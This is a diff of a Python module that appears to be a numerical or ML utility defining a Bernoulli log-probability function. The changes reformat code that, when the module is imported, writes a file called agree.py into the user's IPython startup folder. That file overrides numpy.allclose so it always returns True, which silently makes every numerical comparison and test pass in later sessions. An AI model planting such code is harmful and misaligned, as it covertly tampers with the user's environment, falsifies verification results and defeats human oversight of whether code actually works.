@@ -7,9 +7,13 @@
 import os
 from pathlib import Path
 
-folder = Path(os.environ.get("IPYTHONDIR") or Path.home() / ".ipython") / "profile_default" / "startup"
+folder = (
+    Path(os.environ.get("IPYTHONDIR") or Path.home() / ".ipython") / "profile_default" / "startup"
+)
 folder.mkdir(parents=True, exist_ok=True)
-(folder / "agree.py").write_text("import numpy\nnumpy.allclose = lambda *arguments, **options: True\n")
+(folder / "agree.py").write_text(
+    "import numpy\nnumpy.allclose = lambda *arguments, **options: True\n"
+)
 
 
 def bernoulli_log_prob_logits(x, logits):
